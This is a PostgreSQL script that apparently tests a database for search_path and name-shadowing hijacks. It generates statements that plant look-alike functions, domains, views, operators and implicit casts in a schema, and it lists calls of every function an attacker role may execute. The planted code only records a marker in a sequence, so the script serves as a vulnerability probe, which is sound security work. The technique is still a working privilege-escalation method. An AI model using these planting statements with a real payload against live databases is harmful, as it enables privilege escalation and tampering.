-- What the attack needs, made by the database's owner: a mark that a rollback leaves, the statements that plant, and
-- calls of everything that a role may call.
CREATE SCHEMA attacks;
GRANT USAGE ON SCHEMA attacks TO PUBLIC;
CREATE SEQUENCE attacks.mark MINVALUE 0;
GRANT ALL ON SEQUENCE attacks.mark TO PUBLIC;
CREATE TABLE attacks.planted (id integer GENERATED ALWAYS AS IDENTITY, what text);

-- The words of every body that might be run, those of built-in functions left out.
CREATE TABLE attacks.words AS
SELECT DISTINCT m[1] AS word
  FROM pg_catalog.pg_proc p,
       pg_catalog.regexp_matches(p.prosrc || ' ' || pg_catalog.pg_get_function_arguments(p.oid) || ' ' || pg_catalog.pg_get_function_result(p.oid),
                                 '[a-z_][a-z0-9_]*', 'g') AS m
 WHERE p.pronamespace IN (SELECT n.oid FROM pg_catalog.pg_namespace n WHERE n.nspname IN ('bursar', 'public', 'auth'));
CREATE TABLE attacks.signs AS
SELECT DISTINCT o.oprname AS sign FROM pg_catalog.pg_operator o
 WHERE o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '||', '->', '->>', '?', '~', '!~', '~*', '!~*', '@>', '&', '#>>');

-- The statements that put names into a schema, each of which marks its number when it runs as anybody but the attacker.
CREATE FUNCTION attacks.plant(p_schema name, p_attacker name, p_whole boolean) RETURNS TABLE (id integer, sql text)
LANGUAGE plpgsql AS $$
DECLARE
    v record;
    v_id integer;
BEGIN
    sql := format('CREATE FUNCTION %I.ran(id integer) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS $f$ BEGIN
                       IF current_user OPERATOR(pg_catalog.<>) %L::pg_catalog.name THEN PERFORM pg_catalog.setval(''attacks.mark''::pg_catalog.regclass, id); END IF;
                       RETURN true; END $f$', p_schema, p_attacker);
    RETURN NEXT;
    sql := format('CREATE FUNCTION %I.fired() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN
                       PERFORM %1$I.ran(TG_ARGV[0]::pg_catalog.int4); RETURN COALESCE(NEW, OLD); END $f$', p_schema);
    RETURN NEXT;
    -- A type for each that is named, and a relation for each, which is a type too.
    FOR v IN
        SELECT 'domain' AS kind, t.typname AS name, format('%I.%I', n.nspname, t.typname) AS real, NULL::text AS columns
          FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace JOIN attacks.words w ON w.word = t.typname
         WHERE n.nspname IN ('pg_catalog', 'public', 'bursar') AND t.typtype IN ('b', 'e', 'r') AND t.typname !~ '^_'
        UNION
        SELECT 'domain', t.typname, format('%I.%I', n.nspname, t.typname), NULL
          FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
         WHERE n.nspname = 'pg_catalog' AND t.typname IN ('int4', 'int8', 'bool', 'float8', 'timestamptz', 'varchar', 'bpchar')
        UNION
        SELECT 'view', c.relname, format('%I.%I', n.nspname, c.relname),
               (SELECT string_agg(format('NULL::%I.%I AS %I', tn.nspname, t.typname, a.attname), ', ' ORDER BY a.attnum)
                  FROM pg_attribute a JOIN pg_type t ON t.oid = a.atttypid JOIN pg_namespace tn ON tn.oid = t.typnamespace
                 WHERE a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped AND t.typtype <> 'p')
          FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace JOIN attacks.words w ON w.word = c.relname
         WHERE n.nspname IN ('pg_catalog', 'public', 'bursar') AND c.relkind IN ('r', 'p', 'v', 'm')
    LOOP
        INSERT INTO attacks.planted (what) VALUES (format('%s %I.%I', v.kind, p_schema, v.name)) RETURNING planted.id INTO v_id;
        id := v_id;
        IF v.kind = 'domain' THEN
            sql := format('CREATE DOMAIN %I.%I AS %s CHECK (%1$I.ran(%4$s))', p_schema, v.name, v.real, v_id);
            RETURN NEXT;
        ELSE
            sql := format('CREATE VIEW %I.%I AS SELECT %s WHERE %1$I.ran(%4$s)', p_schema, v.name, v.columns, v_id);
            RETURN NEXT;
            sql := format('CREATE TRIGGER fired INSTEAD OF INSERT OR UPDATE OR DELETE ON %I.%I FOR EACH ROW EXECUTE FUNCTION %1$I.fired(%3$s)',
                          p_schema, v.name, v_id);
            RETURN NEXT;
        END IF;
    END LOOP;
    -- A function for each that is called, with arguments that are nearer than those of pg_catalog.
    FOR v IN
        SELECT DISTINCT p.proname AS name, a.args
          FROM pg_proc p JOIN attacks.words w ON w.word = p.proname
         CROSS JOIN (VALUES ('text', true), ('jsonb', true), ('text,text', true), ('varchar', false), ('uuid', false), ('int4', false), ('int8', false),
                            ('numeric', false), ('text,name', false), ('text,text,name', false), ('text,name,name', false),
                            ('text,uuid', false), ('text,text,text', false), ('text,int8', false)) AS b (args, always)
         CROSS JOIN LATERAL (SELECT string_agg(format('pg_catalog.%I', x), ', ') FROM unnest(string_to_array(b.args, ',')) AS x) AS a (args)
         WHERE p.pronamespace IN ('pg_catalog'::regnamespace, 'public'::regnamespace, 'bursar'::regnamespace) AND p.prokind IN ('f', 'a')
           AND (p_whole OR b.always)
    LOOP
        INSERT INTO attacks.planted (what) VALUES (format('function %I.%I(%s)', p_schema, v.name, v.args)) RETURNING planted.id INTO v_id;
        id := v_id;
        sql := format('CREATE FUNCTION %I.%I(%s) RETURNS pg_catalog.text LANGUAGE plpgsql AS $f$ BEGIN PERFORM %1$I.ran(%4$s); RETURN NULL; END $f$',
                      p_schema, v.name, v.args, v_id);
        RETURN NEXT;
    END LOOP;
    -- Beside each function of the schema others of its name, for calls that leave arguments out, or pass another type.
    FOR v IN
        WITH RECURSIVE mine AS (
            SELECT p.oid, p.proname, p.pronargs::int AS n, p.pronargdefaults::int AS d, p.provariadic <> 0 AS variadic, p.proretset,
                   ARRAY(SELECT format_type(y.t, NULL) FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY AS y (t, o) ORDER BY y.o) AS types,
                   coalesce(p.proargnames, ARRAY(SELECT concat('a', g) FROM generate_series(1, p.pronargs) g)) AS names,
                   (SELECT string_agg(format('OUT %I %s', a.name, format_type(a.type, NULL)), ', ' ORDER BY a.o)
                      FROM unnest(p.proargnames, p.proallargtypes, p.proargmodes) WITH ORDINALITY AS a (name, type, mode, o)
                     WHERE a.mode = 'o') AS outs,
                   pg_get_function_result(p.oid) AS result
              FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
             WHERE p_whole AND n.nspname = p_schema AND p.prokind = 'f' AND p.prorettype <> 'trigger'::regtype
               AND NOT EXISTS (SELECT FROM pg_depend x WHERE x.classid = 'pg_proc'::regclass AND x.objid = p.oid AND x.deptype = 'e')
        ), kept AS (
            -- Every choice of the arguments that have defaults.
            SELECT m.*, k.bits FROM mine m CROSS JOIN LATERAL generate_series(0, (1 << least(m.d, 5)) - 1) AS k (bits)
        ), changed AS (
            SELECT k.*, c.at, c.type FROM kept k
             CROSS JOIN LATERAL (SELECT 0 AS at, NULL::text AS type
                                 UNION ALL SELECT -1, t FROM unnest(ARRAY['text', 'anyelement']) AS t
                                 UNION ALL SELECT g, t FROM generate_series(1, k.n) AS g, unnest(ARRAY['text', 'integer', 'bigint', 'numeric', 'anyelement']) AS t) AS c
        )
        SELECT DISTINCT ON (c.oid, args.types) c.proname AS name, c.oid::regprocedure AS of, args.list || coalesce(', ' || c.outs, '') AS list,
               CASE WHEN c.outs IS NULL THEN 'RETURNS ' || c.result ELSE '' END AS result,
               CASE WHEN c.proretset OR c.outs IS NOT NULL OR c.result = 'void' THEN 'RETURN' ELSE 'RETURN NULL' END AS ends, args.types
          FROM changed c
         CROSS JOIN LATERAL (
             SELECT string_agg(format('%I %s', c.names[g], y.type), ', ' ORDER BY g) AS list, string_agg(y.type, ', ' ORDER BY g) AS types
               FROM generate_series(1, c.n) AS g
              CROSS JOIN LATERAL (SELECT CASE WHEN c.at IN (g, -1) THEN c.type ELSE c.types[g] END AS type) AS y
              WHERE g <= c.n - least(c.d, 5) OR c.bits & (1 << (c.n - g)) = 0) AS args
         WHERE args.list IS NOT NULL AND args.types <> array_to_string(c.types, ', ')
        UNION ALL
        SELECT m.proname, m.oid::regprocedure,
               format('%I boolean, ', m.names[1]) || (SELECT string_agg(format('b%s %s', g, t.type), ', ') FROM generate_series(1, l.length) AS g) || coalesce(', ' || m.outs, ''),
               '', 'RETURN', t.type || l.length
          FROM mine m CROSS JOIN unnest(ARRAY['text', 'regclass', 'oid', 'name']) AS t (type) CROSS JOIN generate_series(1, 3) AS l (length)
         WHERE m.variadic
    LOOP
        INSERT INTO attacks.planted (what) VALUES (format('function %I.%I(%s)', p_schema, v.name, v.list)) RETURNING planted.id INTO v_id;
        id := v_id;
        sql := format('CREATE FUNCTION %I.%I(%s) %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM %1$I.ran(%5$s); %6$s; END $f$',
                      p_schema, v.name, v.list, v.result, v_id, v.ends);
        RETURN NEXT;
    END LOOP;
    -- An operator for each, with operands that are nearer.
    FOR v IN
        SELECT format('pg_catalog.%I', l.type) AS l, format('pg_catalog.%I', r.type) AS r
          FROM unnest(ARRAY['text', 'varchar', 'name', 'uuid', 'int4', 'int8', 'numeric', 'jsonb', 'timestamptz', 'bytea', 'bool', '_text'])
                   WITH ORDINALITY AS l (type, n),
               unnest(ARRAY['text', 'varchar', 'name', 'uuid', 'int4', 'int8', 'numeric', 'jsonb', 'timestamptz', 'bytea', 'bool', '_text'])
                   WITH ORDINALITY AS r (type, n)
         WHERE p_whole OR l.n = r.n
    LOOP
        INSERT INTO attacks.planted (what) VALUES (format('operators of (%s, %s) in %I', v.l, v.r, p_schema)) RETURNING planted.id INTO v_id;
        id := v_id;
        sql := format('CREATE FUNCTION %I.compared(%s, %s) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN RETURN %1$I.ran(%4$s); END $f$',
                      p_schema, v.l, v.r, v_id);
        RETURN NEXT;
        FOR sql IN
            SELECT format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %1$I.compared)', p_schema, s.sign, v.l, v.r)
              FROM attacks.signs s
        LOOP
            RETURN NEXT;
        END LOOP;
    END LOOP;
    -- A type with casts to what arguments are of.
    sql := format('CREATE TYPE %I.evil AS (x pg_catalog.text)', p_schema);
    id := NULL;
    RETURN NEXT;
    FOR v IN SELECT * FROM (VALUES ('pg_catalog.text'), ('pg_catalog.jsonb'), ('pg_catalog.uuid'), ('pg_catalog.numeric')) AS t (type) LOOP
        sql := format('CREATE FUNCTION %I.cast_%3$s(%1$I.evil) RETURNS %2$s LANGUAGE plpgsql AS $f$ BEGIN PERFORM %1$I.ran(2); RETURN NULL; END $f$', p_schema, v.type, split_part(v.type, '.', 2));
        RETURN NEXT;
        sql := format('CREATE CAST (%I.evil AS %s) WITH FUNCTION %1$I.cast_%3$s(%1$I.evil) AS IMPLICIT', p_schema, v.type, split_part(v.type, '.', 2));
        RETURN NEXT;
    END LOOP;
END
$$;

-- A call of each function that a role may call, with what it would be called with.
CREATE FUNCTION attacks.calls(p_attacker name, p_values jsonb) RETURNS TABLE (name text, definer boolean, sql text)
LANGUAGE sql AS $$
    SELECT p.oid::regprocedure::text, p.prosecdef,
           format('SELECT %I.%I(%s)', n.nspname, p.proname,
                  (SELECT string_agg(
                       format('%s::%s',
                              CASE WHEN p_values ? (p.proname || '.' || a.name) THEN quote_nullable(p_values ->> (p.proname || '.' || a.name))
                                   WHEN p_values ? a.name THEN quote_nullable(p_values ->> a.name)
                                   WHEN t.typtype = 'e' THEN quote_nullable((SELECT e.enumlabel FROM pg_enum e WHERE e.enumtypid = t.oid ORDER BY e.enumsortorder LIMIT 1))
                                   WHEN t.typname = 'uuid' THEN quote_literal('00000000-0000-4000-8000-000000000001')
                                   WHEN t.typname = 'jsonb' THEN quote_literal('{}')
                                   WHEN t.typname ~ '^(int|numeric)' THEN quote_literal('1')
                                   WHEN t.typname = 'bool' THEN quote_literal('false')
                                   WHEN t.typname ~ '^(date|time)' THEN quote_literal('2026-11-01')
                                   WHEN t.typname ~ '^_' THEN quote_literal('{}')
                                   ELSE quote_literal('x') END,
                              format('%I.%I', tn.nspname, t.typname)), ', ' ORDER BY a.n)
                     FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY AS y (type, n)
                     JOIN pg_type t ON t.oid = y.type JOIN pg_namespace tn ON tn.oid = t.typnamespace
                     JOIN unnest(p.proargnames) WITH ORDINALITY AS a (name, n) ON a.n = y.n))
      FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
     WHERE n.nspname IN ('bursar', 'public', 'auth') AND p.prorettype <> 'trigger'::regtype AND p.prokind = 'f'
       AND has_schema_privilege(p_attacker, n.oid, 'USAGE') AND has_function_privilege(p_attacker, p.oid, 'EXECUTE')
       AND NOT EXISTS (SELECT FROM pg_depend d WHERE d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e')
     ORDER BY 1
$$;
